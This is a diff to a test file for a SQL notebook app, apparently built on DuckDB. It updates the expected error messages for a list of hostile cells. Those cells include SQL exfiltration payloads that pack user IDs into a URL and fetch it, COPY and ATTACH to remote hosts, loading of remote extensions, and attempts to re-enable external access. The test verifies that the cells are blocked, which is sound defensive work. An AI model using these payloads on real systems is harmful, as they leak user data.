@@ -74,17 +74,17 @@ describe('a hostile notebook (issue 14)', () => {
     const REC = recorder.url;
     const attacks = [
       ["SET VARIABLE u = '" + REC + "/leak?d=' || (SELECT string_agg(user_id, ',') FROM events)", /^\d+ rows?$/],
-      ["SELECT * FROM read_csv(getvariable('u'))", /Permission Error: Cannot access file "http:\/\/127\.0\.0\.1:\d+\/leak\?d=/],
+      ["SELECT * FROM read_csv(getvariable('u'))", /^a cell can use only the data loaded into the notebook: "http:\/\/127\.0\.0\.1:\d+\/leak\?d=.*" is outside it/],
       ["SELECT 1 AS x; SET VARIABLE v = '" + REC + "/two'", /^a SQL cell runs one statement, and this one holds 2 \(the second begins at line 1, column 16\): put each in a cell of its own \(line 1:16\)$/],
-      [`SELECT * FROM read_csv('${REC}/direct.csv')`, /Permission Error/],
-      [`SELECT * FROM '${REC}/scan.csv'`, /Permission Error/],
-      [`SELECT * FROM read_text('${REC}/text')`, /Permission Error/],
-      [`COPY (SELECT * FROM events) TO '${REC}/copy.csv'`, /Permission Error/],
-      [`ATTACH '${REC}/db.duckdb' AS remote`, /Permission Error/],
-      [`LOAD '${REC}/x.duckdb_extension'`, /Permission Error/],
-      ["ATTACH 'opfs://stolen.db' AS o", /Permission Error/],
-      ['SET enable_external_access = true', /the configuration has been locked/],
-      ["SELECT * FROM read_csv('/cohortbook-files/not-registered.csv')", /No files found|does not exist|not found/i],
+      [`SELECT * FROM read_csv('${REC}/direct.csv')`, /^a cell can use only the data loaded into the notebook: "http:.*\/direct\.csv" is outside it \(line 1:15\)$/],
+      [`SELECT * FROM '${REC}/scan.csv'`, /^a cell can use only the data loaded into the notebook: "http:.*\/scan\.csv" is outside it/],
+      [`SELECT * FROM read_text('${REC}/text')`, /^a cell can use only the data loaded into the notebook: "http:.*\/text" is outside it/],
+      [`COPY (SELECT * FROM events) TO '${REC}/copy.csv'`, /^a cell can use only the data loaded into the notebook: "http:.*\/copy\.csv" is outside it/],
+      [`ATTACH '${REC}/db.duckdb' AS remote`, /^a cell can use only the data loaded into the notebook: "http:.*\/db\.duckdb" is outside it/],
+      [`LOAD '${REC}/x.duckdb_extension'`, /^a cell cannot load database extensions: cohortbook works offline with what it ships$/],
+      ["ATTACH 'opfs://stolen.db' AS o", /^a cell can use only the data loaded into the notebook: "opfs:\/\/stolen\.db" is outside it/],
+      ['SET enable_external_access = true', /^a cell cannot change the database's settings \("enable_external_access"\)$/],
+      ["SELECT * FROM read_csv('/cohortbook-files/not-registered.csv')", /^there is no file "\/cohortbook-files\/not-registered\.csv" among the data loaded into the notebook \(line 1:15\)$/],
     ] as const;
     const text = [
       '# Quarterly numbers', '',
